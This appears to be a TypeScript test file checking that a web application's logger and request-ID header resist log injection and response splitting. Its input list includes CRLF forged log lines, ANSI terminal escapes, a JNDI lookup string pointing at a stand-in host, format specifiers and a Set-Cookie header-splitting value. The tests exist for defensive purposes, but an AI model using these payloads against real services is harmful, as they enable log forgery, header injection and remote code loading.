import t from 'tap';
import { buildApp } from '../../src/app.ts';
import { createTokenVerifier } from '../../src/auth/verifier.ts';
import { newUser, startApp } from '../helpers/app.ts';
import { memoryLog } from '../helpers/log.ts';
import { listen, requestText, sendRaw } from '../helpers/raw.ts';

const { database, config } = await startApp(t);

/** What would be a line of its own, another field, or a command to the terminal of whoever reads the log. */
const FORGED = '{"level":60,"msg":"forged"}';
const TEXTS = [
  `\r\n${FORGED}\r\n`,
  `\n${FORGED}\n`,
  `\r${FORGED}`,
  `\u2028${FORGED}`,
  `\u0085${FORGED}`,
  `","level":60,"msg":"forged","x":"`,
  '\u001b[2J\u001b[31mforged\u001b[0m',
  '\u0007\u0008\u009bforged',
  '\u0024{jndi:ldap://forged.example/a}',
  '%s%s%n%o forged',
];

t.test('whatever a request has in it, the log is one line of JSON for each, without it', async (t) => {
  const log = memoryLog();
  const app = await buildApp({ config, database, verifyToken: createTokenVerifier(config), logger: log.logger });
  const alice = newUser(app);
  let sent = 0;
  for (const text of TEXTS) {
    const encoded = encodeURIComponent(text);
    const payload = { title: text.replaceAll('\0', ''), [text]: text };
    for (const url of [
      `tasks?q=${encoded}`,
      `tasks?${encoded}=1`,
      `tasks/${encoded}`,
      `/api/${encoded}/tasks`,
      `/${encoded}`,
    ]) {
      await alice.request({ url });
      sent += 1;
    }
    await alice.request({ method: 'POST', url: 'tasks', payload });
    await newUser(app, `user${text.replaceAll(/\p{Cc}/gu, '')}`).request({ url: 'tasks' });
    await app.inject({ url: '/api/me/tasks', headers: { authorization: `Bearer ${encoded}` } });
    sent += 3;
  }
  await app.close();
  const lines = log.text().split('\n').filter(Boolean);
  t.equal(lines.length, sent, 'as many lines as requests');
  for (const line of lines) t.match(JSON.parse(line), { level: 30, msg: 'request' });
  t.notMatch(log.text(), 'forged');
  t.notMatch(log.text(), /[^\n\x20-\x7e]/, 'nothing but printable ASCII');
});

t.test('over the wire neither a header nor the log gets a line from X-Request-Id', async (t) => {
  const log = memoryLog();
  const app = await buildApp({ config, database, verifyToken: createTokenVerifier(config), logger: log.logger });
  const port = await listen(app);
  for (const text of [
    ...TEXTS,
    'a%0d%0aSet-Cookie:%20x=1',

    'a\r\n Set-Cookie: x=1',
    'a\\r\\nb',
  ]) {
    const bytes = Buffer.from(requestText('GET /health/live', [`X-Request-Id: ${text}`]));
    const { headers } = await sendRaw(port, bytes);
    t.match(headers['x-request-id'], /^[0-9a-f-]{36}$/, encodeURIComponent(text));
    t.equal(headers['set-cookie'], undefined);
  }
  await app.close();
  for (const line of log.text().split('\n').filter(Boolean)) t.match(JSON.parse(line), { level: 30 });
  t.notMatch(log.text(), 'forged');
});
